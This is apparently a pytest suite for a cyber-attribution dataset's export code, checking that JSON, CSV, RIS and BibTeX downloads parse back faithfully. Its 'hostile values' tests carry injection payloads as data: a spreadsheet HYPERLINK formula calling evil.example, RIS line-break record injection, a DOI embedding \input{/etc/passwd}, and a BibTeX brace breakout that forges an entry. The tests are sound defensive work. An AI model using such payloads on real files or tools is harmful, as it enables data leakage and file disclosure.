"""The downloads parse back and say the same as the data."""

from __future__ import annotations

import csv
import io
import json

import pytest
from jsonschema import Draft202012Validator

from companion import bibtex, urls
from companion.pipeline import check_data
from companion.render import exports
from support import FIXTURE_TODAY, ROOT, VALID


@pytest.fixture(scope="module", params=["fixture", "real"])
def model(request):
    checked = check_data(VALID, FIXTURE_TODAY) if request.param == "fixture" else check_data(ROOT / "data")
    assert checked.ok, checked.problems
    return checked.model


def test_cases_json_matches_its_schema_and_the_data(model):
    data = json.loads(exports.cases_json(model))
    schema = json.loads(exports.cases_schema())
    Draft202012Validator.check_schema(schema)
    assert list(Draft202012Validator(schema).iter_errors(data)) == []
    assert [case["id"] for case in data] == sorted(case.id for case in model.cases)
    by_id = {case.id: case for case in model.cases}
    for item in data:
        case = by_id[item["id"]]
        assert (item["title"], item["start"], item.get("end", ""), tuple(item["threats"])) == \
               (case.title, case.start, case.end, case.threats)


def test_the_schema_download_rejects_what_the_data_schema_rejects(model):
    schema = json.loads(exports.cases_schema())
    broken = json.loads(exports.cases_json(model))
    broken[0]["start"] = "2015-13-45x"
    broken[0]["unknown"] = 1
    messages = {e.validator for e in Draft202012Validator(schema).iter_errors(broken)}
    assert {"pattern", "additionalProperties"} <= messages


def test_cases_csv_parses_back_to_the_data(model):
    text = exports.cases_csv(model, "https://example.org/companion/")
    assert text.startswith("\ufeffid,")  # the byte-order mark that makes Excel read UTF-8
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert [row["id"] for row in rows] == sorted(case.id for case in model.cases)
    assert list(rows[0]) == [column.name for column in exports.CSV_COLUMNS]
    by_id = {case.id: case for case in model.cases}
    actors = model.by_id["actor"]
    for row in rows:
        case = by_id[row["id"]]
        assert row["title"] == case.title
        assert row["url"] == "https://example.org/companion" + urls.public_url(case)
        assert row["summary"] == " ".join(case.summary.split())
        assert row["receiver_names"].split("; ") == (
            [f"{actors[p.actor].name} ({p.category.replace('-', ' ')})" for p in case.receivers] or [""])
        assert row["threats"].split(";") == (list(case.threats) or [""])
        assert row["attack_group"].split(";") == (list(case.attack_groups) or [""])
        assert int(row["sources"]) == len(case.sources) >= 2
        assert int(row["primary_sources"]) >= 1
        assert row["source_urls"].split() == [s.url for s in case.sources if s.url]


# --- hostile values in downloads ------------------------------------------------------------------------

@pytest.mark.parametrize("title", ['=HYPERLINK("http://evil.example/?q="&A1,"x")', "+1+1", "-2+3", "@SUM(A1)",
                                   "\tx", "\rx"])
def test_a_formula_in_data_reaches_the_csv_as_text(title):
    """A spreadsheet runs a cell starting with = + - @ (or a tab or carriage return) as a formula."""
    cell = exports.spreadsheet_cell(title)
    assert cell == "'" + title
    assert exports.spreadsheet_cell("Hack of the Bundestag (2015)") == "Hack of the Bundestag (2015)"


def test_the_csv_neutralises_formulas_in_every_column():
    from dataclasses import replace

    checked = check_data(VALID, FIXTURE_TODAY)
    case = checked.model.cases[0]
    model = checked.model.with_entities("case", (replace(case, title='=HYPERLINK("http://evil.example/","x")'),))
    rows = list(csv.DictReader(io.StringIO(exports.cases_csv(model, "https://example.org/").removeprefix("\ufeff"))))
    assert rows[0]["title"] == "'=HYPERLINK(\"http://evil.example/\",\"x\")"


@pytest.mark.parametrize("brk", ["\r", "\n", "\r\n", "\u2028", "\u2029", "\x85", "\x0b", "\x0c"])
def test_no_line_break_in_a_value_can_add_a_ris_record(brk):
    import rispy

    from companion import ris

    item = {"id": "x", "type": "report", "title": f"Title{brk}ER  - {brk}{brk}TY  - JOUR{brk}TI  - Injected",
            "issued": {"date-parts": [[2020]]}, "publisher": f"A{brk}B"}
    text = ris.ris([item])
    records = rispy.loads(text)
    assert len(records) == 1
    assert records[0]["title"] == "Title ER - TY - JOUR TI - Injected"


def test_urls_and_dois_cannot_reach_tex_through_the_bib_file():
    from companion import bibtex

    entry = bibtex.entry({"id": "x", "type": "report", "title": "T", "issued": {"date-parts": [[2020]]},
                          "DOI": "10.1080/x}{\\input{/etc/passwd}}", "URL": "https://example.org/a b{\\x}"})
    fields = entry.fields_dict
    for name in ("doi", "url"):
        assert not set(fields[name].value) & set("{}\\ "), fields[name].value
    assert fields["doi"].value == "10.1080/x%7D%7B%5Cinput%7B/etc/passwd%7D%7D"


@pytest.mark.latex
def test_a_title_cannot_close_its_bibtex_field_and_forge_a_record(tmp_path):
    """BibTeX counts escaped braces too: "\\}" in a title used to end the field, and the rest of the
    title became fields and a record of the author's making. Checked with BibTeX itself."""
    import shutil
    import subprocess

    from companion import bibtex

    assert shutil.which("bibtex"), "bibtex is needed: install texlive-bibtex-extra"
    forged = 'policy}, x = 0} @misc(forged2099, title = "forged entry", author = "mallory", year = 2099)'
    items = [{"id": "a2017", "type": "article-journal", "title": forged, "container-title": "J",
              "author": [{"family": "Smith and Jones", "given": "A"}], "issued": {"date-parts": [[2017]]}},
             {"id": "b2018", "type": "report", "title": "Braces {inside} a title", "author": [{"literal": "Org"}],
              "issued": {"date-parts": [[2018]]}}]
    (tmp_path / "refs.bib").write_text(bibtex.bibtex(items), encoding="utf-8")
    (tmp_path / "main.aux").write_text("\\citation{*}\n\\bibstyle{plain}\n\\bibdata{refs}\n", encoding="utf-8")
    done = subprocess.run(["bibtex", "main"], cwd=tmp_path, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stdout
    bbl = (tmp_path / "main.bbl").read_text(encoding="utf-8")
    assert bbl.count("\\bibitem") == 2 and "forged2099" not in bbl.split("\\bibitem{a2017}")[0]
    assert "{Smith and Jones}" in bbl  # one author, not two
    library = bibtexparser_entries(bibtex.bibtex(items))
    assert [entry.key for entry in library] == ["a2017", "b2018"]


def bibtexparser_entries(text: str):
    import bibtexparser

    library = bibtexparser.parse_string(text)
    assert library.failed_blocks == []
    return library.entries


@pytest.mark.parametrize(("csl_type", "ris_type"), [
    ("article-journal", "JOUR"), ("article-newspaper", "NEWS"), ("book", "BOOK"), ("chapter", "CHAP"),
    ("report", "RPRT"), ("webpage", "ELEC"), ("post-weblog", "BLOG"), ("legislation", "STAT"),
])
def test_each_kind_of_work_gets_its_ris_type(csl_type, ris_type):
    """The RIS types (TY) of the RIS specification that reference managers read for each kind of work."""
    import rispy

    from companion import ris

    item = {"id": "x", "type": csl_type, "title": "T", "issued": {"date-parts": [[2020, 3, 1]]}}
    assert rispy.loads(ris.ris([item]))[0]["type_of_reference"] == ris_type


@pytest.mark.parametrize(("parts", "month"), [([2020, 1, 31], "jan"), ([2020, 3], "mar"), ([2019, 12, 1], "dec")])
def test_the_bibtex_month_is_the_dates_month(parts, month):
    from companion import bibtex

    entry = bibtex.entry({"id": "x", "type": "report", "title": "T", "issued": {"date-parts": [parts]}})
    assert entry.fields_dict["month"].value == month
    assert entry.fields_dict["year"].value == str(parts[0])


def test_braces_in_bibtex_text_are_written_as_commands():
    from companion import bibtex

    assert bibtex.latex("a {b} c") == r"a \textbraceleft{}b\textbraceright{} c"
    assert bibtex.latex("50% & $5 #1 x_y") == r"50\% \& \$5 \#1 x\_y"


def test_a_name_bibtex_would_split_is_kept_whole():
    """BibTeX splits authors at ' and ' and a name's parts at commas: such a part is braced."""
    from companion import bibtex

    assert bibtex.names([{"family": "Smith and Jones", "given": "A"}]) == "{Smith and Jones}, A"
    assert bibtex.names([{"family": "Roe", "given": "Richard", "suffix": "Jr."}, {"literal": "Org, Inc."}]) == \
        "Roe, Jr., Richard and {Org, Inc.}"


def test_a_publisher_with_accented_first_and_last_letters_stays_one_name():
    # The LaTeX encoder writes "{\^I}le … Bogot{\'a}": braces at both ends that do not enclose the whole value,
    # so the value must still be braced, or biblatex splits it at " and " into two publishers.
    entry = bibtex.entry({"id": "x", "type": "book", "title": "T", "publisher": "Île de France and Bogotá",
                          "publisher-place": "Île and Bogotá", "issued": {"date-parts": [[2020]]}})
    fields = {field.key: field.value for field in entry.fields}
    for value in (fields["publisher"], fields["location"]):
        depth = 0
        for position, char in enumerate(value):
            depth += {"{": 1, "}": -1}.get(char, 0)
            assert depth > 0 or position == len(value) - 1, value  # one group from the first to the last brace


# --- coding that lines up with the field's datasets ----------------------------------------------------

@pytest.mark.parametrize(("dates", "first"), [
    (["2018-02-15", "2018-02", "2020-07-30"], "2018-02-15"),  # February as a whole is not known to be earlier
    (["2018-02-15", "2018-01"], "2018-01"),                    # January as a whole is
    (["2019", "2020-05-05"], "2019"),
    (["2020-05", "2020"], "2020"),                             # no day known: the vaguer, earlier-starting one
    ([], ""),
])
def test_the_first_attribution_is_the_earliest_date_the_data_can_vouch_for(dates, first):
    from companion.dates import earliest

    assert earliest(dates) == first


def test_days_to_first_attribution_count_as_the_field_does():
    """NotPetya: 27 June 2017 to the UK's attribution on 15 February 2018 is 233 days (counted by
    hand: 3 days left of June, then 31+31+30+31+30+31+31 and 15 of February)."""
    model = check_data(ROOT / "data").model
    case = model.by_id["case"]["notpetya-2017"]
    assert exports.first_attribution(case) == "2018-02-15"
    assert exports.days_to_first_attribution(case) == "233"
    bundestag = model.by_id["case"]["bundestag-hack-2015"]  # started "2015-04": no day to count from
    assert exports.days_to_first_attribution(bundestag) == ""
